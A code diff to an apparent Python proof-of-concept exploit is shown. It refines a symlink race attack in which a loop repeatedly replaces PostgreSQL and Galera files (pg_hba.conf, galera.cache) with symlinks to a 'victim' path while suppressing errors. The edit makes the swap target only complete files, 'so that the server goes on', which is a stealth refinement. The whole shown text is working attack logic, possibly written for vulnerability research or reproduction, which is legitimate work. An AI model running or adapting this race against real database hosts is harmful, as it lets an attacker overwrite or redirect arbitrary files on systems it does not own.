@@ -49,9 +49,7 @@ def attack(tmp, victim, treasury):
                           top / "d/primary/data/pg_hba.conf",
                           top / "data0/galera.cache",
                           top / "d/data0/galera.cache"):
-                if not rules.is_symlink() and rules.exists():
-                    quietly(rules.unlink)
-                plant(rules, victim)
+                quietly(replace, rules, victim)
         time.sleep(0.0005)
 
 
@@ -60,6 +58,13 @@ def quietly(work, *arguments):
         work(*arguments)
     except OSError:
         pass
+
+
+def replace(path, target):
+    """A file that is complete, so that the server goes on."""
+    if not path.is_symlink() and path.stat().st_size > 0:
+        os.unlink(path)
+        os.symlink(target, path)
 
 
 def plant(path, target):
